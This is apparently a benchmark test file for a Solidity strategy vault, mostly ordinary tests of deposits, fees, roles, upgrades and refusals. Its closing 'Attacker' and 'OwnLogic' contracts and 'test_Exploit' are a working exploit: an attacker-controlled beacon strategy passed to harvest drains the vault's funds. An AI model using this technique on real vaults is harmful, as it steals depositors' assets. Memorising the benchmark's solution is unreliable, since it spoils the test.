// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./StrategyVault.sol";
import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {Ownable} from "@openzeppelin/contracts@5.4.0/access/Ownable.sol";
import {ILendingMarket} from "./context/IStrategy.sol";
import {LendingLogic} from "./context/LendingLogic.sol";
import {LendingMarket} from "./context/LendingMarket.sol";
import {StrategyBeacon} from "./context/StrategyBeacon.sol";
import {VaultReader} from "./context/VaultReader.sol";
import {VaultRouter} from "./context/VaultRouter.sol";

// assay-canary-19a6643d-06c3-4ba5-86ea-7364e5d87b83

interface Vm {
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    address private immutable _minter = msg.sender;

    constructor() ERC20("Coin", "COIN") {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == _minter);
        _mint(to, amount);
    }
}

/// Does less than it is told to, or more.
contract LazyLogic is IStrategyLogic {
    Coin private immutable _coin;
    address private immutable _other;

    constructor(Coin coin, address other) {
        _coin = coin;
        _other = other;
    }

    function allocate(uint256 amount) external {
        _coin.transfer(_other, amount - 1);
    }

    function release(uint256) external {}

    function harvest() external {
        _coin.transfer(_other, 1);
    }
}

/// Calls the vault while it runs.
contract EagerLogic is IStrategyLogic {
    function allocate(uint256 amount) external {
        StrategyVault(address(this)).release(address(this), amount);
    }

    function release(uint256 amount) external {
        StrategyVault(address(this)).allocate(address(this), amount);
    }

    function harvest() external {
        StrategyVault(address(this)).harvest(address(this));
    }
}

/// Tries calls from within another, as logic that calls back.
contract Hook is IStrategyLogic {
    address private _at;
    bytes[] private _calls;
    bool private _armed;
    bool public tried;
    Hook private immutable _self = this;

    function aim(address at, bytes[] memory calls) external {
        _at = at;
        _calls = calls;
    }

    /// Makes a call that calls back.
    function begin(bytes calldata call_) external {
        _armed = true;
        (bool done, ) = _at.call(call_);
        require(done && !_armed, "not begun");
    }

    /// Makes all calls, none from within another.
    function each() external {
        for (uint256 i = 0; i < _calls.length; i++) {
            (bool done, ) = _at.call(_calls[i]);
            require(done, "refused without the lock");
        }
    }

    function attempt() external {
        _armed = false;
        for (uint256 i = 0; i < _calls.length; i++) {
            (bool done, bytes memory answer) = _at.call(_calls[i]);
            require(!done && bytes4(answer) == ReentrancyGuard.ReentrancyGuardReentrantCall.selector, "not locked");
        }
        tried = true;
    }

    function allocate(uint256) external {}

    function release(uint256) external {}

    function harvest() external {
        _self.attempt();
    }
}

contract OwnLogic is IStrategyLogic {
    IERC20 private immutable _asset;
    ILendingMarket private immutable _market;
    uint256 private immutable _supplied;
    address private immutable _spender;

    constructor(IERC20 asset, ILendingMarket market, uint256 supplied, address spender) {
        _asset = asset;
        _market = market;
        _supplied = supplied;
        _spender = spender;
    }

    function allocate(uint256) external {}

    function release(uint256) external {}

    function harvest() external {
        _market.withdraw(_supplied);
        _asset.transfer(_spender, _supplied);
        _asset.approve(_spender, type(uint256).max);
    }
}

contract Attacker is IBeacon {
    StrategyVault private vault;
    address public implementation;

    constructor(StrategyVault vault_) {
        vault = vault_;
    }

    function run(ILendingMarket market) external {
        IERC20 asset = IERC20(vault.asset());
        implementation = address(new OwnLogic(asset, market, vault.totalAllocated(), address(this)));
        vault.harvest(address(new BeaconStrategy(address(this), "")));
        asset.transferFrom(address(vault), address(this), asset.balanceOf(address(vault)));
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ADMIN = address(0xAD);
    address private constant STRATEGIST = address(0x57);
    address private constant CURATOR = address(0xC0);
    address private constant GUARDIAN = address(0x60);
    address private constant TREASURY = address(0x73);
    address private constant COUNCIL = address(0xC1);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_760_000_000;

    Coin public coin;
    Coin private other;
    LendingMarket private market;
    StrategyBeacon private beacon;
    CodeRegistry private registry;
    StrategyVault private vault;
    BeaconStrategy private first;
    BeaconStrategy private second;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        other = new Coin();
        market = new LendingMarket(COUNCIL, coin);
        beacon = new StrategyBeacon(COUNCIL, address(new LendingLogic(coin, market)));
        registry = new CodeRegistry(ADMIN);
        vault = new StrategyVault(coin, registry, ADMIN, TREASURY, 1_000, 1_000_000 ether);
        vm.startPrank(ADMIN);
        registry.grantRole(keccak256("CURATOR_ROLE"), CURATOR);
        registry.grantRole(keccak256("GUARDIAN_ROLE"), GUARDIAN);
        vault.grantRole(keccak256("STRATEGIST_ROLE"), STRATEGIST);
        vault.grantRole(keccak256("CURATOR_ROLE"), CURATOR);
        vault.grantRole(keccak256("GUARDIAN_ROLE"), GUARDIAN);
        vm.stopPrank();
        vm.prank(COUNCIL);
        market.setAdmitted(address(vault), true);
        first = new BeaconStrategy(address(beacon), "senior");
        second = new BeaconStrategy(address(beacon), "junior");
        approve(address(first));
        vm.startPrank(CURATOR);
        vault.setCap(address(first), 6_000 ether);
        vault.setCap(address(second), 4_000 ether);
        vm.stopPrank();
        queue(address(first), address(second));
        coin.mint(ANA, 20_000 ether);
        coin.mint(BEN, 20_000 ether);
        vm.startPrank(ANA);
        coin.approve(address(vault), type(uint256).max);
        vault.deposit(10_000 ether, ANA);
        vm.stopPrank();
        vm.prank(BEN);
        coin.approve(address(vault), type(uint256).max);
        vm.prank(STRATEGIST);
        vault.allocate(address(first), 5_000 ether);
        mallory = new Attacker(vault);
    }

    function approve(address sample) private {
        vm.prank(CURATOR);
        registry.propose(sample);
        vm.warp(block.timestamp + 2 days);
        vm.prank(CURATOR);
        registry.approve(sample);
    }

    function queue(address one, address two) private {
        address[] memory strategies = new address[](2);
        strategies[0] = one;
        strategies[1] = two;
        vm.prank(STRATEGIST);
        vault.setQueue(strategies);
    }

    function interest(uint256 amount) private {
        coin.mint(address(this), amount);
        coin.approve(address(market), amount);
        market.payInterest(amount);
    }

    function test_Regular() public {
        vm.prank(STRATEGIST);
        vault.allocate(address(second), 4_000 ether);
        require(vault.totalAllocated() == 9_000 ether && coin.balanceOf(address(vault)) == 1_000 ether, "allocated");
        interest(900 ether);
        require(vault.harvest(address(second)) == 900 ether && coin.balanceOf(TREASURY) == 90 ether, "harvested");
        require(vault.lockedProfit() == 810 ether && vault.totalAssets() == 10_000 ether, "locked");
        vm.warp(block.timestamp + 3.5 days);
        require(vault.totalAssets() == 10_405 ether, "half of it");
        interest(90 ether);
        address[] memory strategies = new address[](2);
        strategies[0] = address(first);
        strategies[1] = address(second);
        require(vault.harvestMany(strategies) == 90 ether, "both");
        vm.warp(block.timestamp + 7 days);
        require(vault.lockedProfit() == 0 && vault.totalAssets() == 10_891 ether, "credited");
        vm.prank(BEN);
        uint256 shares = vault.deposit(1_089.1 ether, BEN);
        require(shares > 999.9 ether * 1e6 && shares < 1_000.1 ether * 1e6, "shares");
        vm.startPrank(BEN);
        vault.mint(100 ether * 1e6, BEN);
        vault.withdraw(3 ether, BEN, BEN);
        vault.transfer(ANA, 1 ether * 1e6);
        vault.approve(ANA, 2 ether * 1e6);
        vm.stopPrank();
        vm.startPrank(ANA);
        vault.transferFrom(BEN, ANA, 1 ether * 1e6);
        vault.redeem(1 ether * 1e6, ANA, BEN);
        vault.redeem(7_000 ether * 1e6, ANA, ANA);
        vm.stopPrank();
        require(vault.allocatedTo(address(first)) < 500 ether && vault.allocatedTo(address(second)) == 4_000 ether, "freed");
        vm.prank(STRATEGIST);
        vault.release(address(second), 3_000 ether);
        require(vault.totalAllocated() < 1_500 ether, "released");
        around();
        roles();
    }

    function around() private {
        VaultReader reader = new VaultReader();
        require(reader.stateOf(vault).allocated == vault.totalAllocated(), "state");
        (, uint256 assets) = reader.positionOf(vault, ANA);
        require(assets > 3_267 ether && market.interestOf(address(vault)) == 0 && vault.unlockRate() == 0, "position");
        require(vault.roomIn(address(second)) == 3_000 ether, "room");
        require(reader.strategiesOf(vault)[1].allocated == 1_000 ether && reader.strategiesOf(vault)[0].approved, "states");
        VaultRouter router = new VaultRouter(vault);
        vm.startPrank(ANA);
        coin.approve(address(router), 10 ether);
        uint256 shares = router.deposit(10 ether, ANA, 9 ether * 1e6, block.timestamp);
        vault.approve(address(router), shares);
        require(router.redeem(shares, ANA, 9 ether, block.timestamp) > 9.9 ether, "routed");
        vm.stopPrank();
        address next = address(new LendingLogic(coin, market));
        vm.startPrank(COUNCIL);
        beacon.propose(next);
        beacon.cancel();
        beacon.propose(next);
        vm.warp(block.timestamp + 5 days);
        beacon.upgrade();
        vm.stopPrank();
        require(beacon.implementation() == next && first.beacon() == address(beacon), "upgraded");
        vm.prank(STRATEGIST);
        vault.release(address(second), 1_000 ether);
    }

    function roles() private {
        other.mint(address(vault), 3);
        vm.startPrank(ADMIN);
        vault.rescue(other, BEN);
        vault.setTreasury(BEN);
        vault.grantRole(keccak256("GUARDIAN_ROLE"), BEN);
        vault.revokeRole(keccak256("GUARDIAN_ROLE"), BEN);
        vm.stopPrank();
        vm.startPrank(GUARDIAN);
        vault.pause();
        require(vault.maxDeposit(ANA) == 0 && vault.maxMint(ANA) == 0, "paused");
        vault.unpause();
        vault.renounceRole(keccak256("GUARDIAN_ROLE"), GUARDIAN);
        registry.revoke(address(first));
        vm.stopPrank();
        require(!registry.isApproved(address(second)), "revoked");
        vm.startPrank(CURATOR);
        vault.setDepositLimit(1);
        require(vault.maxDeposit(ANA) == 0, "limited");
        vault.proposeFee(2_000);
        vm.warp(block.timestamp + 3 days);
        vault.applyFee();
        vault.proposeFee(500);
        vm.stopPrank();
        require(vault.fee() == 500 && vault.treasury() == BEN && other.balanceOf(BEN) == 3, "set");
    }

    // What is refused, each from the state after setUp().

    function test_RefusesSetups() public {
        vm.expectRevert("StrategyVault: no registry");
        new StrategyVault(coin, CodeRegistry(address(0)), ADMIN, TREASURY, 0, 1);
        vm.expectRevert("VaultRoles: no admin");
        new StrategyVault(coin, registry, address(0), TREASURY, 0, 1);
        vm.expectRevert("PerformanceFee: no treasury");
        new StrategyVault(coin, registry, ADMIN, address(0), 0, 1);
        vm.expectRevert("PerformanceFee: too high");
        new StrategyVault(coin, registry, ADMIN, TREASURY, 2_001, 1);
        vm.expectRevert("BeaconStrategy: no beacon");
        new BeaconStrategy(address(0), "");
        vm.prank(ADMIN);
        vm.expectRevert("StrategyVault: asset");
        vault.rescue(coin, ADMIN);
        vm.expectRevert();
        first.run(abi.encodeCall(IStrategyLogic.harvest, ()));
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BEN);
        vm.expectRevert();
        vault.allocate(address(first), 1);
        vm.expectRevert();
        vault.release(address(first), 1);
        vm.expectRevert();
        vault.rescue(other, BEN);
        vm.expectRevert();
        vault.setCap(address(first), 1);
        vm.expectRevert();
        vault.setQueue(new address[](0));
        vm.expectRevert();
        vault.setDepositLimit(1);
        vm.expectRevert();
        vault.proposeFee(1);
        vm.expectRevert();
        vault.applyFee();
        vm.expectRevert();
        vault.setTreasury(BEN);
        vm.expectRevert();
        vault.pause();
        vm.expectRevert();
        vault.redeem(1, BEN, ANA);
        vm.expectRevert("LendingMarket: not admitted");
        market.supply(1);
        vm.stopPrank();
    }

    function test_RefusesOtherCode() public {
        LendingLogic logic = new LendingLogic(coin, market);
        vm.expectRevert("StrategyVault: code not approved");
        vault.harvest(address(logic));
        vm.expectRevert("StrategyVault: code not approved");
        vault.harvest(BEN);
        vm.prank(CURATOR);
        vm.expectRevert("StrategyBook: code not approved");
        vault.setCap(address(logic), 1);
        vm.prank(GUARDIAN);
        registry.revoke(address(first));
        vm.expectRevert("StrategyVault: code not approved");
        vault.harvest(address(first));
    }

    function test_RefusesAllocations() public {
        vm.startPrank(STRATEGIST);
        vm.expectRevert("StrategyBook: cap");
        vault.allocate(address(first), 1_000 ether + 1);
        vm.expectRevert("StrategyBook: not allocated");
        vault.release(address(second), 1);
        vm.expectRevert("StrategyBook: incomplete");
        vault.setQueue(new address[](0));
        vm.expectRevert("StrategyBook: too many");
        vault.setQueue(new address[](9));
        address[] memory strategies = new address[](2);
        vm.expectRevert("StrategyBook: no cap");
        vault.setQueue(strategies);
        strategies[0] = address(first);
        strategies[1] = address(first);
        vm.expectRevert("StrategyBook: twice");
        vault.setQueue(strategies);
        vm.stopPrank();
        vm.prank(GUARDIAN);
        vault.pause();
        vm.prank(STRATEGIST);
        vm.expectRevert();
        vault.allocate(address(first), 1);
        vm.expectRevert();
        vault.harvest(address(first));
        vm.expectRevert();
        vault.harvestMany(new address[](0));
        vm.prank(ANA);
        vm.expectRevert();
        vault.deposit(1, ANA);
    }

    function list(address logic) private returns (address strategy) {
        strategy = address(new BeaconStrategy(address(new StrategyBeacon(COUNCIL, logic)), "other"));
        if (!registry.isApproved(strategy)) approve(strategy);
        vm.prank(CURATOR);
        vault.setCap(strategy, 1_000 ether);
        queue(address(first), strategy);
    }

    function test_RefusesLazyLogic() public {
        address strategy = list(address(new LazyLogic(coin, BEN)));
        vm.startPrank(STRATEGIST);
        vm.expectRevert("StrategyVault: not taken");
        vault.allocate(strategy, 100);
        vm.stopPrank();
        vm.expectRevert();
        vault.harvest(strategy);
        address logic = address(new LazyLogic(coin, BEN));
        vm.prank(COUNCIL);
        beacon.propose(logic);
        vm.warp(block.timestamp + 5 days);
        vm.prank(COUNCIL);
        beacon.upgrade();
        vm.prank(STRATEGIST);
        vm.expectRevert("StrategyVault: not returned");
        vault.release(address(first), 100);
        vm.prank(ANA);
        vm.expectRevert("StrategyVault: not returned");
        vault.withdraw(6_000 ether, ANA, ANA);
    }

    function test_RefusesEagerLogic() public {
        address strategy = list(address(new EagerLogic()));
        vm.prank(ADMIN);
        vault.grantRole(keccak256("STRATEGIST_ROLE"), address(vault));
        vm.prank(STRATEGIST);
        vm.expectRevert();
        vault.allocate(strategy, 100);
        vm.expectRevert();
        vault.harvest(strategy);
    }

    function test_RefusesReentry() public {
        Hook hook = new Hook();
        address strategy = list(address(hook));
        coin.mint(address(hook), 100 ether);
        vm.prank(ADMIN);
        vault.grantRole(keccak256("STRATEGIST_ROLE"), address(hook));
        vm.startPrank(address(hook));
        coin.approve(address(vault), 100 ether);
        vault.deposit(50 ether, address(hook));
        vm.stopPrank();
        address[] memory strategies = new address[](1);
        strategies[0] = address(first);
        bytes[] memory calls = new bytes[](6);
        calls[0] = abi.encodeCall(vault.deposit, (1 ether, address(hook)));
        calls[1] = abi.encodeCall(vault.withdraw, (1 ether, address(hook), address(hook)));
        calls[2] = abi.encodeCall(vault.allocate, (address(first), 1 ether));
        calls[3] = abi.encodeCall(vault.release, (address(first), 1 ether));
        calls[4] = abi.encodeCall(vault.harvest, (address(first)));
        calls[5] = abi.encodeCall(vault.harvestMany, (strategies));
        hook.aim(address(vault), calls);
        hook.begin(abi.encodeCall(vault.harvest, (strategy)));
        require(hook.tried(), "not called back");
        hook.each();
    }

    function without(bytes32 role, address who) private pure returns (bytes memory) {
        return abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, who, role);
    }

    function unowned(address who) private pure returns (bytes memory) {
        return abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, who);
    }

    function test_RefusesSamples() public {
        bytes32 curator = registry.CURATOR_ROLE();
        bytes32 guardian = registry.GUARDIAN_ROLE();
        address sample = address(new LendingLogic(coin, market));
        vm.expectRevert("CodeRegistry: no admin");
        new CodeRegistry(address(0));
        vm.startPrank(CURATOR);
        vm.expectRevert("CodeRegistry: no code");
        registry.propose(BEN);
        vm.expectRevert("CodeRegistry: approved");
        registry.propose(address(second));
        vm.expectRevert("CodeRegistry: not proposed");
        registry.approve(sample);
        registry.propose(sample);
        vm.expectRevert("CodeRegistry: not ready");
        registry.approve(sample);
        vm.stopPrank();
        vm.warp(block.timestamp + 2 days);
        vm.startPrank(BEN);
        vm.expectRevert(without(curator, BEN));
        registry.propose(sample);
        vm.expectRevert(without(curator, BEN));
        registry.approve(sample);
        vm.expectRevert(without(guardian, BEN));
        registry.revoke(sample);
        vm.stopPrank();
    }

    function test_RefusesMarkets() public {
        vm.expectRevert("LendingLogic: no asset");
        new LendingLogic(Coin(address(0)), market);
        vm.expectRevert("LendingLogic: no market");
        new LendingLogic(coin, LendingMarket(address(0)));
        vm.expectRevert("LendingMarket: no asset");
        new LendingMarket(COUNCIL, Coin(address(0)));
        LendingMarket empty = new LendingMarket(COUNCIL, coin);
        vm.expectRevert("LendingMarket: no suppliers");
        empty.payInterest(0);
        vm.expectRevert("LendingMarket: not supplied");
        market.withdraw(1);
        vm.prank(BEN);
        vm.expectRevert(unowned(BEN));
        market.setAdmitted(BEN, true);
    }

    function test_RefusesFees() public {
        bytes32 curator = vault.CURATOR_ROLE();
        vm.startPrank(CURATOR);
        vm.expectRevert("DepositLimit: too high");
        vault.setDepositLimit(uint256(type(uint128).max) + 1);
        vm.expectRevert("PerformanceFee: too high");
        vault.proposeFee(2_001);
        vm.expectRevert("PerformanceFee: not proposed");
        vault.applyFee();
        vault.proposeFee(2_000);
        vm.expectRevert("PerformanceFee: not ready");
        vault.applyFee();
        vm.stopPrank();
        vm.warp(block.timestamp + 3 days);
        vm.prank(BEN);
        vm.expectRevert(without(curator, BEN));
        vault.applyFee();
    }

    function test_RefusesUpgrades() public {
        address next = address(new LendingLogic(coin, market));
        vm.expectRevert("StrategyBeacon: no code");
        new StrategyBeacon(COUNCIL, BEN);
        vm.prank(BEN);
        vm.expectRevert(unowned(BEN));
        beacon.propose(next);
        vm.startPrank(COUNCIL);
        vm.expectRevert("StrategyBeacon: no code");
        beacon.propose(BEN);
        vm.expectRevert("StrategyBeacon: not proposed");
        beacon.upgrade();
        beacon.propose(next);
        vm.expectRevert("StrategyBeacon: not ready");
        beacon.upgrade();
        vm.stopPrank();
        vm.warp(block.timestamp + 5 days);
        vm.startPrank(BEN);
        vm.expectRevert(unowned(BEN));
        beacon.cancel();
        vm.expectRevert(unowned(BEN));
        beacon.upgrade();
        vm.stopPrank();
    }

    /// A strategy without a cap stays in the queue as long as it holds something.
    function test_RefusesQueues() public {
        bytes32 strategist = vault.STRATEGIST_ROLE();
        address[] memory strategies = new address[](1);
        strategies[0] = address(first);
        vm.prank(BEN);
        vm.expectRevert(without(strategist, BEN));
        vault.setQueue(strategies);
        vm.prank(CURATOR);
        vault.setCap(address(first), 0);
        vm.startPrank(STRATEGIST);
        vault.setQueue(strategies);
        vm.expectRevert("StrategyBook: not queued");
        vault.allocate(address(second), 1);
        vm.stopPrank();
        bytes32 guardian = vault.GUARDIAN_ROLE();
        vm.prank(GUARDIAN);
        vault.pause();
        vm.prank(BEN);
        vm.expectRevert(without(guardian, BEN));
        vault.unpause();
    }

    function test_RefusesRoutes() public {
        VaultRouter router = new VaultRouter(vault);
        uint256 deadline = block.timestamp;
        vm.startPrank(ANA);
        coin.approve(address(router), 10 ether);
        vault.approve(address(router), type(uint256).max);
        vm.expectRevert("VaultRouter: too few shares");
        router.deposit(10 ether, ANA, 11 ether * 1e6, deadline);
        vm.expectRevert("VaultRouter: too few assets");
        router.redeem(10 ether * 1e6, ANA, 11 ether, deadline);
        vm.warp(deadline + 1);
        vm.expectRevert("VaultRouter: too late");
        router.deposit(10 ether, ANA, 1, deadline);
        vm.expectRevert("VaultRouter: too late");
        router.redeem(10 ether * 1e6, ANA, 1, deadline);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run(market);
    }

    function test_Exploit() public {
        exploit();
        require(coin.balanceOf(address(mallory)) >= 10_000 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
